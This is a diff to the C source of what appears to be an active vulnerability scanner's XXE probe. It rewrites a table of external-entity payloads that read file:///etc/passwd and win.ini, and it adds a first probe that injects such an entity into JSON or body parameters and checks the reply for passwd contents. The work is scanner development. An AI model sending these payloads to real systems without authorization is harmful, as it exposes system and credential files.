@@ -9,12 +9,12 @@
 #include "scan/values.h"
 
 struct file {
-	const char *url, *mark, *mark2;
+	const char *where, *mark;
 };
 static const struct file files[] = {
-	{ "file:///etc/passwd", "root:x:0:0:", NULL },
-	{ "file:///c:/windows/win.ini", "for 16-bit app support", NULL },
-	{ "file:///etc/group", "root:x:0:", NULL },
+	{ "SYSTEM \"file:///etc/passwd\"", "root:x:0:0:" },
+	{ "PUBLIC \"q\" \"file:///etc/passwd\"", "root:x:0:0:" },
+	{ "SYSTEM \"file:///c:/windows/win.ini\"", "for 16-bit app support" },
 };
 
 /* Name of the document element: a DOCTYPE must agree with it. */
@@ -71,9 +71,9 @@ static bool report(struct probe *p, const struct scan_exchange *x, struct str pr
 static bool try_files(struct probe *p, const struct way *w)
 {
 	const struct scan_exchange *x, *again;
-	for (size_t i = 0; i < 2; i++) {
+	for (size_t i = 0; i < ARRAY_SIZE(files); i++) {
 		struct str mark = str_c(files[i].mark);
-		struct str dtd = probe_printf(p, "<!ENTITY q SYSTEM \"%s\">", files[i].url);
+		struct str dtd = probe_printf(p, "<!ENTITY q %s>", files[i].where);
 		if (send_xml(p, w, dtd, &x) < 0)
 			return false;
 		struct str proof = active_find(x, mark);
@@ -214,6 +214,13 @@ static void probe_xml(struct probe *p, const struct scan_point *pt)
 			return;
 		try_xinclude(p, pt);
 		return;
+	}
+	if (!holds_xml(pt) && !deep && (pt->where == WHERE_JSON || pt->where == WHERE_BODY) && !active_plain_number(pt->value)) {
+		const struct scan_exchange *x;
+		w.xml = STR("<root>&q;</root>");
+		/* one look, before more is asked */
+		if (send_xml(p, &w, STR("<!ENTITY q SYSTEM \"file:///etc/passwd\">"), &x) == 0 && active_find(x, STR("root:x:0:0:")).ptr)
+			try_files(p, &w);
 	}
 	if (holds_xml(pt) || deep) {
 		struct str v = str_trim(pt->value);
